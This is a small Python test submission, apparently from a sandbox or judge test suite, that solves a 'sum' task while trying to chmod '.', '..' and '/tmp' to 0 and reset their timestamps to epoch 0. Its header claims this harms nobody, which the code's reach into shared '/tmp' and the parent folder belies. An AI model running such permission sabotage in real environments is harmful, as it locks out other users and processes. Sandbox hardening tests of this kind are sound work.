# task: sum
# expect: accepted (what a program does to its own folders hurts nobody)
# tries: to lock the folders that others need, with times of long ago
import os
import sys

strange = [path for path in (".", "/tmp") if not os.access(path, os.W_OK | os.X_OK) or os.stat(path).st_mtime < 10**9]
for path in (".", "..", "/tmp"):
    for change in (lambda: os.utime(path, (0, 0)), lambda: os.chmod(path, 0)):
        try:
            change()
        except OSError:
            continue
print(strange or sum(map(int, sys.stdin.read().split())))
